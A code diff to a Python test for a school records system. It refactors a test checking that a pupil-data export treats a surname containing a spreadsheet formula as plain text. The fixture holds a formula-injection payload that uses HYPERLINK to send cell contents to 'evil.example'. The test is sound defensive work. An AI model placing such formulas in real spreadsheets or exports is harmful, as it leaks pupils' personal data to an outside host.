@@ -8,26 +8,17 @@ import datetime as dt
 import io
 import zipfile
 
-import pyarrow as pa
-
-from registers import marks, pupil
 from rollbook.analytics.subject_access import export_zip, gather
-from rollbook.lake import MARKS, PUPILS, PartitionKey
 from rollbook.rules.upn import make
+from tests.support.pupils import pupil
+from tests.support.registers import register, write
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
 PUPIL = make(823, 4001, 23, 1)
 
 
 def test_the_formula_is_text_and_the_codes_are_as_marked(lake):
-    lake.replace(
-        {
-            PartitionKey("pupils", 2024, 100001): pa.Table.from_pylist(
-                [{**pupil(PUPIL), "surname": FORMULA}], schema=PUPILS
-            ),
-            PartitionKey("marks", 2024, 100001): pa.Table.from_pylist(marks(PUPIL, "/-"), schema=MARKS),
-        }
-    )
+    write(lake, [pupil(PUPIL, surname=FORMULA)], register(PUPIL, "/-"), 100001)
 
     archive = zipfile.ZipFile(io.BytesIO(export_zip(PUPIL, gather(lake, PUPIL), dt.datetime.now(dt.UTC))))
 
